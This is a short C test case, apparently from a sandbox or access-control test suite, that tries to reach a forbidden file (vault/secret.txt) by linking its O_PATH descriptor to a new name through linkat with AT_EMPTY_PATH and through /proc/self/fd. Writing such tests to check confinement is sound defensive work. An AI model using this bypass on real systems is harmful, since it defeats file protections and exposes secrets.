/* technique: gives an O_PATH descriptor of the forbidden file a name, by AT_EMPTY_PATH and by /proc/self/fd
 * source: linkat(2); CVE-2014-1737 discussion of flink
 * success: vault/secret.txt has a second name, or its content is on the output
 * control: permissive
 * event: FileLink
 */
#include "attack.h"

int main(void)
{
	char path[64];
	int fd = open(SECRET_FILE, O_PATH);

	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	if (linkat(fd, "", AT_FDCWD, "innocent", AT_EMPTY_PATH) &&
	    linkat(AT_FDCWD, path, AT_FDCWD, "innocent", AT_SYMLINK_FOLLOW))
		return failed("linkat");
	return show_path("innocent");
}
